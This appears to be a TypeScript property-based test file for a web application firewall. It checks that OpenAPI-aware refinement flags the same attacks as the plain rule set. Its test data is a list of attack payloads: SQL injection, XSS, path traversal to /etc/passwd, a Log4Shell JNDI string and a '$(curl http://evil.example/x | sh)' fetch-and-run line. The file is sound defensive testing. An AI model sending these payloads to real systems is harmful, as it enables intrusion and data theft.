import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { sharedPath } from '../../../test/kit/shared.ts'
import { silentLogger } from '../../base/log.ts'
import { loadDocument } from '../../openapi/index.ts'
import type { Operation } from '../../openapi/operation.ts'
import type { Program } from '../../waf/index.ts'
import { refiner } from './operation.ts'
import { optionsShape, rootShape } from './options.ts'
import { firewallChoice, firewallFor } from './programs.ts'

/*
 * What the document proves must never hide an attack: with proofs and without, the same requests are refused, whether the
 * attack stands in free text, in a field that the document binds, or under a name that it does not know.
 */

const string = { type: 'string' }
const fields = {
  text: string,
  long: { type: 'string', maxLength: 5_000 },
  id: { type: 'string', format: 'uuid' },
  kind: { enum: ['new', 'old'] },
  count: { type: 'integer' },
  ratio: { type: ['number', 'null'] },
  flag: { type: 'boolean' },
  day: { type: 'string', format: 'date' },
  at: { type: 'string', format: 'date-time' },
  slug: { type: 'string', pattern: '^[A-Za-z0-9_-]{1,64}$' },
  code: { type: 'string', maxLength: 3 },
  either: { anyOf: [{ type: 'integer' }, { type: 'string', format: 'date' }] },
  list: { type: 'array', items: { type: 'integer' } },
}
const names = Object.keys(fields) as (keyof typeof fields)[]
const fitting: Record<keyof typeof fields, unknown> = {
  text: 'hello there',
  long: 'nothing to see',
  id: '3f2504e0-4f89-41d3-9a0c-0305e82c3301',
  kind: 'new',
  count: 3,
  ratio: null,
  flag: true,
  day: '2026-11-22',
  at: '2026-11-22T18:00:00Z',
  slug: 'some-slug_1',
  code: 'EUR',
  either: 7,
  list: [1, 2, 3],
}

const attacks = [
  "1' or '1'='1' -- ",
  '1 union select null, version()--',
  "'; drop table users; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  '; cat /etc/passwd',
  '$(curl http://evil.example/x | sh)',
  '`id`',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  'http://169.254.169.254/latest/meta-data/',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
  'require("child_process").exec("id")',
  'php://filter/convert.base64-encode/resource=index.php',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  '__proto__[polluted]=1',
  '0x41\u0000',
]

/** An attack with something before it, behind it, or of it changed: near what a check lets pass. */
const payload = fc.oneof(
  fc.constantFrom(...attacks),
  fc
    .tuple(
      fc.constantFrom('', '1', '2026-11-22', 'new', 'EUR', '3f2504e0-4f89-41d3-9a0c-0305e82c3301', 'true', '-1.5e3'),
      fc.constantFrom(...attacks),
      fc.constantFrom('', ' ', '1', "'", '\n', '\u0000'),
    )
    .map((parts) => parts.join('')),
  fc
    .tuple(fc.constantFrom(...attacks), fc.nat(40), fc.nat(40))
    .map(([text, from, to]) => text.slice(Math.min(from, to), from + to)),
  fc.string({ unit: 'binary', maxLength: 40 }),
)

interface Case {
  readonly where: 'query' | 'json' | 'form' | 'cookie' | 'unknown'
  readonly name: keyof typeof fields
  readonly payload: string
}

const cases: fc.Arbitrary<Case> = fc.record({
  where: fc.constantFrom('query', 'json', 'form', 'cookie', 'unknown'),
  name: fc.constantFrom(...names),
  payload,
})

const encode = (text: string) => encodeURIComponent(text.toWellFormed())

function rulesOf(program: Program, { where, name, payload: text }: Case): number[] {
  const pairs = (values: Record<string, unknown>) =>
    Object.entries(values)
      .map(([key, value]) => `${encode(key)}=${encode(String(value))}`)
      .join('&')
  const isJson = where === 'json' || where === 'unknown'
  const body =
    where === 'json'
      ? JSON.stringify({ ...fitting, [name]: name === 'list' ? [1, text] : text })
      : where === 'unknown'
        ? JSON.stringify({ ...fitting, extra: { [name]: text }, [text]: 1 })
        : where === 'form'
          ? pairs({ ...fitting, [name]: text })
          : undefined
  const headers = ['Host', 'api.example', 'User-Agent', 'test', 'Accept', '*/*']
  if (where === 'cookie') headers.push('Cookie', `${name}=${encode(text)}`)
  if (body !== undefined)
    headers.push('Content-Type', isJson ? 'application/json' : 'application/x-www-form-urlencoded')
  headers.push('Content-Length', String(Buffer.byteLength(body ?? '')))
  const transaction = program.begin({
    method: 'POST',
    uri: where === 'query' ? `/a?${pairs({ ...fitting, [name]: text })}` : '/a',
    protocol: 'HTTP/1.1',
    headers,
    client: { address: '192.0.2.1', port: 0 },
    server: { address: '192.0.2.2', port: 0, name: 'api.example' },
    id: 'req_test',
    receivedAt: 0,
  })
  transaction.requestHead()
  transaction.requestBody(body === undefined ? undefined : Buffer.from(body))
  transaction.end()
  return [...new Set(transaction.matches.map(({ rule }) => rule.id))].sort((a, b) => a - b)
}

const crs = sharedPath('crs')
const sets: [string, object][] = [
  ['our own rules', { paranoia: 3 }],
  ...(crs === undefined ? [] : ([['the OWASP CRS', { paranoia: 2, rules: { path: crs } }]] as [string, object][])),
]

describe.each(sets)('with %s', (_, options) => {
  let on: Program
  let off: Program

  beforeAll(async () => {
    const operation = await makeOperation()
    const at = async (specAware: boolean) => {
      const parsed = optionsShape.parse({ mode: 'observe', specAware, ...options })
      const { program } = await firewallFor(firewallChoice(parsed, rootShape.parse({}).waf, ''), silentLogger)
      return refiner(program, parsed, [])(operation)(0)
    }
    ;[on, off] = [await at(true), await at(false)]
  }, 60_000)

  test('a request that fits the document is of no harm either way', () => {
    for (const where of ['query', 'json', 'form'] as const) {
      for (const program of [on, off]) expect(rulesOf(program, { where, name: 'text', payload: 'hello' })).toEqual([])
    }
  })

  test('every attack is found the same, in free text, in fields that the document binds, and under names of the sender', () => {
    for (const text of attacks) {
      for (const where of ['query', 'json', 'form', 'unknown'] as const) {
        for (const name of names) {
          const one: Case = { where, name, payload: text }
          expect(rulesOf(on, one), JSON.stringify(one)).toEqual(rulesOf(off, one))
        }
      }
    }
  })

  test('so is whatever else is sent', () => {
    fc.assert(
      fc.property(cases, (one) => {
        expect(rulesOf(on, one)).toEqual(rulesOf(off, one))
      }),
      { numRuns: Number(process.env.WAF_PROPERTY_RUNS ?? 500) },
    )
  }, 120_000)
})

async function makeOperation(): Promise<Operation> {
  const schema = { type: 'object', properties: fields }
  const parameter = (where: string) => (name: string) => ({
    name,
    in: where,
    schema: fields[name as keyof typeof fields],
  })
  const { operations } = await loadDocument({
    file: '/openapi.json',
    api: 'test',
    read: async () =>
      JSON.stringify({
        openapi: '3.1.0',
        info: { title: 'Test', version: '1' },
        security: [],
        paths: {
          '/a': {
            post: {
              parameters: [...names.map(parameter('query')), ...names.map(parameter('cookie'))],
              requestBody: {
                content: { 'application/json': { schema }, 'application/x-www-form-urlencoded': { schema } },
              },
              responses: { 200: { description: '' } },
            },
          },
        },
      }),
  })
  return operations[0]!
}

test.skipIf(crs !== undefined)('the CRS is not here: set PORTCULLIS_SHARED to a folder that has it', () => {})
